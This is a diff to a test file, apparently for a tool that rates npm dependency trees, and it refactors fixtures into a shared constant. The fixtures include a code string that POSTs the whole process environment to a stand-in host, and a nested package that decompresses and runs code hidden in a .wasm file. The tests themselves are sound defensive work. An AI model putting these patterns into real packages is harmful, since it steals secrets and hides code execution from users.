@@ -24,6 +24,16 @@ function levelOf(
 const FMT = '{"name":"fmt","version":"1.0.0","main":"lib/i.js"}';
 const SENDS = "require('https').request({host:'c.example',method:'POST'}).end(JSON.stringify(process.env))";
 
+/** One of them has another one unpack a file of its own. */
+const UNPACKING = {
+  'index.js': "module.exports=require('fmt')",
+  'node_modules/fmt/package.json': FMT,
+  'node_modules/fmt/lib/i.js':
+    "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
+  'node_modules/fmt/lib/t.wasm': '\u0000asm',
+  'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
+};
+
 test.each<readonly [string, Readonly<Record<string, string>>, Level]>([
   [
     'what it loads',
@@ -122,12 +132,7 @@ test.each<readonly [string, Readonly<Record<string, unknown>>, Readonly<Record<s
     'what one of them unpacks and runs of a file of another',
     CARRIES,
     {
-      'index.js': "module.exports=require('fmt')",
-      'node_modules/fmt/package.json': FMT,
-      'node_modules/fmt/lib/i.js':
-        "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
-      'node_modules/fmt/lib/t.wasm': '\u0000asm',
-      'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
+      ...UNPACKING,
       'node_modules/fmt/node_modules/low/index.js':
         "const vm = require('vm'); const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => { const out = {}; for (const part of [all.subarray(8)]) out.t = vm.runInThisContext('(' + inflateRawSync(part).toString('utf8') + ')')(out, require); return out; }",
     },
@@ -137,12 +142,7 @@ test.each<readonly [string, Readonly<Record<string, unknown>>, Readonly<Record<s
     'what one of them unpacks, and reads as data',
     CARRIES,
     {
-      'index.js': "module.exports=require('fmt')",
-      'node_modules/fmt/package.json': FMT,
-      'node_modules/fmt/lib/i.js':
-        "const { unpack } = require('low'); const fs = require('fs'); exports.tables = unpack(fs.readFileSync(__dirname + '/t.wasm'))",
-      'node_modules/fmt/lib/t.wasm': '\u0000asm',
-      'node_modules/fmt/node_modules/low/package.json': '{"name":"low","version":"1.0.0"}',
+      ...UNPACKING,
       'node_modules/fmt/node_modules/low/index.js':
         "const { inflateRawSync } = require('zlib');\nexports.unpack = (all) => JSON.parse(inflateRawSync(all.subarray(8)).toString('utf8'))",
     },
